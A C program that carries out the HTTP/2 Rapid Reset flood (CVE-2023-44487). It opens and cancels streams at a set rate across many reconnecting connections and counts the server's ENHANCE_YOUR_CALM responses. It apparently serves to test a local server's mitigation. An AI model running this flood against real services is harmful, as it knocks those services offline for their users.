/* storm_h2.c - a rapid reset attack (CVE-2023-44487) at a rate: opens streams and resets them.
 *
 * usage: storm_h2 PORT [RESETS_PER_SECOND [CONNECTIONS [SECONDS [LAG_MS [PATH]]]]] (10000, 10, 10,
 * 0, /shop.Quotes/Get). All connections together make the rate, evenly in time. LAG_MS is how long
 * a stream lives: 0 puts the RST_STREAM right behind the HEADERS. A connection that the other side
 * ends is counted and opened again. Prints JSON: resets, held_back (not made, since the other side
 * did not read), cut (connections), calmed (those of them whose GOAWAY said ENHANCE_YOUR_CALM),
 * seconds. */
#include "h2/peer.h"

#include <stdio.h>
#include <stdlib.h>
#include <sys/epoll.h>

#define CONNECTIONS_MAX 1000
#define RATE_MAX 1000000
#define SECONDS_MAX 3600
#define LAG_MAX_MS 10000
#define EVENTS_MAX 256
#define TICK NS_PER_MS /* what is due is done this often */

/* Opened and not yet reset: a ring, as long as the rate times the lag can fill. */
struct opened {
    uint64_t connection_life; /* which connection it was on */
    int64_t reset_at;
    unsigned connection;
    int32_t id;
};

struct connection {
    struct peer *peer;
    uint64_t life;
    bool is_calmed;
};

static struct connection connections[CONNECTIONS_MAX];
static struct opened *ring;
static size_t ring_size, ring_first, ring_len;
static uint64_t lives, resets, held_back, cut, calmed;

static int on_frame(nghttp2_session *session, const nghttp2_frame *frame, void *user)
{
    struct connection *connection = ((struct peer *)user)->owner;
    (void)session;
    if (frame->hd.type == NGHTTP2_GOAWAY)
        connection->is_calmed = frame->goaway.error_code == NGHTTP2_ENHANCE_YOUR_CALM;
    return 0;
}

static int on_sent(nghttp2_session *session, const nghttp2_frame *frame, void *user)
{
    (void)session, (void)user;
    resets += frame->hd.type == NGHTTP2_RST_STREAM;
    return 0;
}

static void begin(struct connection *connection, int epoll, uint16_t port,
                  const nghttp2_session_callbacks *callbacks)
{
    connection->peer = peer_connect(epoll, port, callbacks, connection);
    connection->life = ++lives;
    connection->is_calmed = false;
}

static void end(struct connection *connection)
{
    peer_free(connection->peer);
    connection->peer = NULL;
    cut++;
    calmed += connection->is_calmed;
}

static void reset_one(void)
{
    struct opened *opened = &ring[ring_first];
    struct connection *connection = &connections[opened->connection];
    ring_first = (ring_first + 1) % ring_size;
    ring_len--;
    if (connection->life != opened->connection_life || !connection->peer)
        return;
    /* What nghttp2 has not sent yet it would cancel in silence. */
    peer_gather(connection->peer);
    nghttp2_submit_rst_stream(connection->peer->session, NGHTTP2_FLAG_NONE, opened->id,
                              NGHTTP2_CANCEL);
    peer_gather(connection->peer);
}

static void open_one(unsigned index, const char *path, int64_t reset_at)
{
    struct connection *connection = &connections[index];
    if (!connection->peer || ring_len == ring_size)
        return;
    if (peer_is_behind(connection->peer)) { /* it does not read: what is not sent is no attack */
        held_back++;
        return;
    }
    int32_t id = peer_submit(connection->peer, &(struct request){.path = path});
    ring[(ring_first + ring_len++) % ring_size] =
        (struct opened){connection->life, reset_at, index, id};
}

static void flush_all(unsigned count)
{
    for (unsigned i = 0; i < count; i++) {
        if (connections[i].peer && !peer_flush(connections[i].peer))
            end(&connections[i]);
    }
}

static void read_all(int epoll, int64_t until)
{
    struct epoll_event events[EVENTS_MAX];
    int64_t now = clock_ns();
    int count = epoll_wait_ns(epoll, events, EVENTS_MAX, until > now ? until - now : 0);
    for (int i = 0; i < count; i++) {
        struct peer *peer = events[i].data.ptr;
        if (!peer_turn(peer, events[i].events))
            end(peer->owner);
    }
}

struct plan {
    uint16_t port;
    uint64_t rate, seconds;
    unsigned connections;
    int64_t lag;
    const char *path;
};

/* The schedule is by the clock alone: a tick that comes late does the work of those it missed. */
static int64_t run(const struct plan *plan, int epoll, const nghttp2_session_callbacks *callbacks)
{
    int64_t start = clock_ns(), end_at = start + (int64_t)plan->seconds * NS_PER_S;
    uint64_t opened = 0, wanted = plan->rate * plan->seconds;
    int64_t now = start;
    while (now < end_at || ring_len) {
        uint64_t due = (uint64_t)((now - start) / 1000) * plan->rate / 1000000;
        for (; opened < due && opened < wanted; opened++) {
            open_one((unsigned)(opened % plan->connections), plan->path, now + plan->lag);
            if (plan->lag == 0 && ring_len)
                reset_one();
        }
        while (ring_len && ring[ring_first].reset_at <= now)
            reset_one();
        flush_all(plan->connections);
        read_all(epoll, now + TICK);
        for (unsigned i = 0; i < plan->connections && now < end_at; i++) {
            if (!connections[i].peer)
                begin(&connections[i], epoll, plan->port, callbacks);
        }
        now = clock_ns();
    }
    flush_all(plan->connections);
    return now - start;
}

static struct plan plan_of(int argc, char **argv)
{
    struct plan plan = {
        .rate = 10000, .connections = 10, .seconds = 10, .path = "/shop.Quotes/Get"};
    plan.port = (uint16_t)number_of(argv[1], UINT16_MAX);
    if (argc > 2)
        plan.rate = number_of(argv[2], RATE_MAX);
    if (argc > 3)
        plan.connections = (unsigned)number_of(argv[3], CONNECTIONS_MAX);
    if (argc > 4)
        plan.seconds = number_of(argv[4], SECONDS_MAX);
    if (argc > 5 && argv[5][0] != '0')
        plan.lag = (int64_t)number_of(argv[5], LAG_MAX_MS) * NS_PER_MS;
    if (argc > 6)
        plan.path = argv[6];
    return plan;
}

int main(int argc, char **argv)
{
    nghttp2_session_callbacks *callbacks;
    if (argc < 2 || argc > 7 || nghttp2_session_callbacks_new(&callbacks)) {
        fputs("usage: storm_h2 PORT [RATE [CONNECTIONS [SECONDS [LAG_MS [PATH]]]]]\n", stderr);
        return 2;
    }
    struct plan plan = plan_of(argc, argv);
    nghttp2_session_callbacks_set_on_frame_recv_callback(callbacks, on_frame);
    nghttp2_session_callbacks_set_on_frame_send_callback(callbacks, on_sent);
    ring_size = (size_t)(plan.rate * (uint64_t)(plan.lag / NS_PER_MS + 1000) / 1000) + 1;
    if (!(ring = calloc(ring_size, sizeof *ring)))
        die("calloc");
    int epoll = epoll_new();
    for (unsigned i = 0; i < plan.connections; i++)
        begin(&connections[i], epoll, plan.port, callbacks);
    int64_t took = run(&plan, epoll, callbacks);
    printf("{\"resets\": %llu, \"held_back\": %llu, \"cut\": %llu, \"calmed\": %llu, "
           "\"seconds\": %.3f}\n",
           (unsigned long long)resets, (unsigned long long)held_back, (unsigned long long)cut,
           (unsigned long long)calmed, (double)took / (double)NS_PER_S);
    for (unsigned i = 0; i < plan.connections; i++) {
        if (connections[i].peer)
            peer_free(connections[i].peer);
    }
    nghttp2_session_callbacks_del(callbacks);
    free(ring);
    return 0;
}
